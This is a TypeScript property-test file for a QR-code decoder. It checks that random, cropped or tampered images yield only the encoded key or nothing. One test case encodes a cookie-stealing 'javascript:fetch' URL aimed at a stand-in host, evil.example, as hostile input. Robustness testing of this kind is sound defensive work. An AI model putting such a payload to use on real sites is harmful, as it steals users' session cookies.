import fc from 'fast-check';
import QRCode from 'qrcode';
import { describe, expect, test } from 'vitest';
import { findCodes } from '../../../src-main/scan/decode/find-codes.ts';
import { crop, type Gray } from '../../../src-main/scan/decode/gray.ts';
import { draw, secondEngine, sheet } from './drawing.ts';

/*
 * Whatever a picture holds, it ends with the texts of the codes that are in it or with none: it throws nothing, it
 * ends, and it never gives a key that is not there.
 */

const pair = 'ck_77fae4f3a8ee4de618dcf7c7e034836baea92147|cs_09679d55ed3d4136b6c569ff1975a5ce18c6d454';

function find(gray: Gray, frame?: number): Promise<string[]> {
  const options = frame === undefined ? {} : { frame };
  return findCodes(gray, { second: secondEngine, signal: AbortSignal.timeout(60_000), ...options });
}

/** As large as its text needs, a module some pixels wide, on white paper. */
function drawText(text: string | Uint8ClampedArray, module: number, level: 'L' | 'H' = 'L'): Gray {
  const segments = typeof text === 'string' ? text : [{ data: text, mode: 'byte' as const }];
  const { size, data: dark } = QRCode.create(segments, { errorCorrectionLevel: level }).modules;
  const side = (size + 8) * module;
  const data = new Uint8Array(side * side).fill(255);
  for (let at = 0; at < size * size; at += 1) {
    if (!dark[at]) continue;
    const left = (4 + (at % size)) * module;
    const top = (4 + Math.floor(at / size)) * module;
    for (let y = top; y < top + module; y += 1) data.fill(0, y * side + left, y * side + left + module);
  }
  return { width: side, height: side, data };
}

describe('pixels of any kind', () => {
  const small = fc.tuple(fc.nat(90), fc.nat(90));
  const thin = fc.tuple(fc.integer({ min: 18, max: 30 }), fc.integer({ min: 500, max: 9000 }));
  const size = fc.oneof(
    small,
    thin,
    thin.map(([one, other]) => [other, one] as const),
  );
  const filled = (seed: number, width: number, height: number) => {
    const data = new Uint8Array(width * height);
    let state = seed;
    for (let at = 0; at < data.length; at += 1) {
      state = (Math.imul(state ^ (state >>> 15), 2_246_822_519) + 374_761_393) >>> 0;
      data[at] = state >>> 24;
    }
    return { width, height, data };
  };

  test('in a picture', { timeout: 60_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(size, fc.integer(), async ([width, height], seed) => {
        expect(await find(filled(seed, width, height))).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });

  test('in a frame, whichever it is', { timeout: 60_000 }, async () => {
    const frame = fc.oneof(fc.nat(), fc.constantFrom(Number.MAX_SAFE_INTEGER));
    await fc.assert(
      fc.asyncProperty(size, fc.integer(), frame, async ([width, height], seed, frame) => {
        expect(await find(filled(seed, width, height), frame)).toEqual([]);
      }),
      { numRuns: 40 },
    );
  });
});

describe('a key that was tampered with is that key or none', () => {
  const side = 200;
  const code = draw({ text: pair, scale: 1.4, margins: { left: 16, top: 16, right: 16, bottom: 16 } });

  test('cut anywhere', { timeout: 60_000 }, async () => {
    const at = fc.integer({ min: -10, max: side });
    await fc.assert(
      fc.asyncProperty(at, at, at, at, async (left, top, width, height) => {
        const found = await find(crop(code, { left, top, width: Math.max(0, width), height: Math.max(0, height) }));
        expect([[], [pair]]).toContainEqual(found);
      }),
      { numRuns: 30 },
    );
  });

  test('painted over, torn and moved', { timeout: 240_000 }, async () => {
    const area = { left: fc.nat(side - 1), top: fc.nat(side - 1), width: fc.nat(60), height: fc.nat(60) };
    const change = fc.oneof(
      fc.record({ what: fc.constant('paint' as const), shade: fc.integer({ min: 0, max: 255 }), ...area }),
      fc.record({ what: fc.constant('invert' as const), ...area }),
      fc.record({ what: fc.constant('copy' as const), by: fc.integer({ min: 1, max: 40_000 }), ...area }),
    );
    await fc.assert(
      fc.asyncProperty(fc.array(change, { minLength: 1, maxLength: 12 }), async (changes) => {
        const data = code.data.slice();
        for (const one of changes) {
          for (let y = one.top; y < Math.min(code.height, one.top + one.height); y += 1) {
            for (let x = one.left; x < Math.min(code.width, one.left + one.width); x += 1) {
              const at = y * code.width + x;
              if (one.what === 'paint') data[at] = one.shade;
              else if (one.what === 'invert') data[at] = 255 - (data[at] ?? 0);
              else data[at] = code.data[(at + one.by) % code.data.length] ?? 0;
            }
          }
        }
        expect([[], [pair]]).toContainEqual(await find({ ...code, data }));
      }),
      { numRuns: 25 },
    );
  });
});

describe('a code of any text', () => {
  test.each<[string, string]>([
    ['as much as a code can hold', 'A text of 2,953 bytes. '.repeat(129).slice(0, 2953)],
    ['an address that is a script', 'javascript:fetch("https://evil.example/"+document.cookie)'],
    ['control characters', '\u0000\u0007\u001b[2J\u001b]0;title\u0007\r\n\u0085\u202e'],
    ['half of a key', pair.slice(0, 43)],
  ])('%s', async (_, text) => expect(await find(drawText(text, 3))).toEqual([text]));

  test('bytes that are no text are some text, and no key', { timeout: 60_000 }, async () => {
    await fc.assert(
      fc.asyncProperty(fc.uint8Array({ minLength: 1, maxLength: 300 }), async (bytes) => {
        const found = await find(drawText(new Uint8ClampedArray(bytes), 4));
        expect(found.length).toBeLessThanOrEqual(1);
        expect(found.join()).not.toMatch(/ck_[0-9a-f]{40}/);
      }),
      { numRuns: 30 },
    );
  });
});

test('a wall of the marks by which codes are found ends, as a picture and as a frame', {
  timeout: 60_000,
}, async () => {
  const mark: Gray = { width: 18, height: 18, data: new Uint8Array(18 * 18).fill(255) };
  for (let at = 0; at < 14 * 14; at += 1) {
    const [x, y] = [at % 14, Math.floor(at / 14)];
    const ring = Math.max(Math.abs(x - 6.5), Math.abs(y - 6.5));
    if (ring < 3.5 || ring > 5) mark.data[(y + 2) * 18 + x + 2] = 0;
  }
  const places = Array.from({ length: 900 }, (_, at) => [mark, (at % 30) * 18, Math.floor(at / 30) * 18] as const);
  const wall = sheet(540, 540, places);
  expect(await find(wall)).toEqual([]);
  expect(await find(wall, 7)).toEqual([]);
});
